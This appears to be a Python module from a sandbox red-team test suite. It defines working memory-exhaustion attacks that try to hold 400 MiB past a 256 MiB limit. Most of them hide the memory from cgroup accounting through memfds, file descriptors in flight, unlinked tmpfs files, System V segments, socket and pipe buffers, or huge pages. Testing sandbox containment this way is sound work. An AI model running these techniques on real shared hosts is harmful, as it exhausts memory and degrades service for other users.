"""Attacks on the host's memory: 400 MiB by every way there is, for a moment, where 256 are given."""

import array
import fcntl
import mmap
import os
import socket

from cloche_redteam import shared
from cloche_redteam.attack import Unable, attack
from cloche_redteam.taking import (
    MIB,
    MUCH,
    crowd,
    file_systems_in_memory,
    fill,
    hold,
    many_files,
    room_for,
)

TYPE_CHECKING = False  # typing is slow to import; the checker takes this name for True
if TYPE_CHECKING:
    from cloche_redteam.attack import Bait

_MEMORY = "exhausting memory, CWE-770"
_HIDDEN = "memory that is no process's own, shmem in cgroup-v2.rst"
_TAKEN = f"held {MUCH // MIB} MiB for a second"


@attack("resources", _MEMORY, alone=True)
def take_memory(bait: "Bait") -> "str | None":
    """Take 400 MiB of the heap."""
    del bait
    block = bytearray(MUCH)
    block[:: mmap.PAGESIZE] = b"x" * (MUCH // mmap.PAGESIZE)
    hold()
    return _TAKEN


@attack("resources", _MEMORY, alone=True)
def take_memory_by_many_children(bait: "Bait") -> "str | None":
    """Take 400 MiB in ten processes, each of which has little."""
    del bait
    share = MUCH // 10

    def take() -> None:
        block = mmap.mmap(-1, share, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        block.write(b"x" * share)
        hold()
        hold()

    return _TAKEN if crowd(10, take) == 10 else None


@attack("resources", _HIDDEN, alone=True)
def take_memory_in_files_of_memory(bait: "Bait") -> "str | None":
    """Write 400 MiB to memfds, which no process maps."""
    _may_hide(bait)
    fill(os.memfd_create("big"), MUCH)
    hold()
    return _TAKEN


@attack("resources", _HIDDEN, alone=True)
def take_memory_in_flight(bait: "Bait") -> "str | None":
    """Send 400 MiB of memfds to oneself and close them: they are in no process's hands."""
    _may_hide(bait)
    ends = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for _ in range(8):
        made = os.memfd_create("flying")
        fill(made, MUCH // 8)
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [made]))
        ends[0].sendmsg([b"x"], [rights])
        os.close(made)
    hold()
    return _TAKEN


@attack("resources", _HIDDEN, alone=True)
def take_memory_in_a_file_system(bait: "Bait") -> "str | None":
    """Write 400 MiB to files of a tmpfs, unlinked at once."""
    _may_hide(bait)
    places = file_systems_in_memory()
    if not places:
        raise Unable("no tmpfs here may be written to")
    left = MUCH
    for place in places:
        path = f"{place}/big-{os.getpid()}"
        made = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
        os.unlink(path)
        left -= fill(made, min(left, room_for(made)))
    hold()
    return _TAKEN if left <= 0 else None


@attack("resources", _HIDDEN, alone=True)
def take_memory_that_is_attached_nowhere(bait: "Bait") -> "str | None":
    """Fill 400 MiB of System V memory and let go of it; it is taken away a second later."""
    _may_hide(bait)
    segments = [shared.make_memory(0, MUCH // 20) for _ in range(20)]
    reader, writer = os.pipe()
    if os.fork() == 0:  # outlives us when we are killed, and takes the segments away
        os.close(writer)
        os.read(reader, 1)
        for segment in segments:
            shared.remove_memory(segment)
        os._exit(0)
    for segment in segments:  # one by one, so that no process ever has much
        shared.fill_memory(segment, b"x" * MIB, MUCH // 20 // MIB)
    hold()
    there = all(shared.read_memory(segment, 1) == b"x" for segment in segments)
    os.close(writer)
    os.wait()
    return _TAKEN if there else None


@attack("resources", "CVE-2013-4312, descriptors and buffers in flight", alone=True)
def take_memory_in_sockets(bait: "Bait") -> "str | None":
    """Leave 400 MiB unread between sockets."""
    _may_hide(bait)
    many_files()
    ends: list[socket.socket] = []
    held = 0
    while held < MUCH and len(ends) < 3800:
        ends += socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        ends[-1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * MIB)
        ends[-1].setblocking(False)
        try:
            while held < MUCH:
                held += ends[-1].send(bytes(1 << 16))
        except BlockingIOError:
            continue
    hold()
    return _TAKEN if held >= MUCH else None


@attack("resources", "CVE-2016-2847, pipes as a store of memory", alone=True)
def take_memory_in_pipes(bait: "Bait") -> "str | None":
    """Leave 400 MiB unread in pipes."""
    del bait
    many_files()
    held = 0
    for _ in range(MUCH // MIB):
        _, writer = os.pipe2(os.O_NONBLOCK)
        fcntl.fcntl(writer, 1031, MIB)  # F_SETPIPE_SZ; the user's soft limit of pages refuses it
        held += os.write(writer, bytes(MIB))
    hold()
    return _TAKEN if held >= MUCH else None


@attack("resources", "hugetlb is charged to no memory limit, cgroup-v2.rst")
def take_a_huge_page(bait: "Bait") -> "str | None":
    """Take a page of the host's pool of huge pages."""
    del bait
    with open("/proc/meminfo", encoding="ascii") as file:
        known = dict(line.split(":") for line in file)
    free = int(known.get("HugePages_Free", "0"))
    size = int(known.get("Hugepagesize", "2048 kB").split()[0]) * 1024
    if not free:
        raise Unable("the host keeps no huge pages")
    with mmap.mmap(-1, size, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000) as block:
        block[0] = 1
        return f"took {size >> 10} KiB of the host's pool"


def _may_hide(bait: "Bait") -> None:
    """Where the contender says itself that it does not hold this, there is nothing to find out."""
    if bait.get("hidden_memory"):
        raise Unable(bait["hidden_memory"])
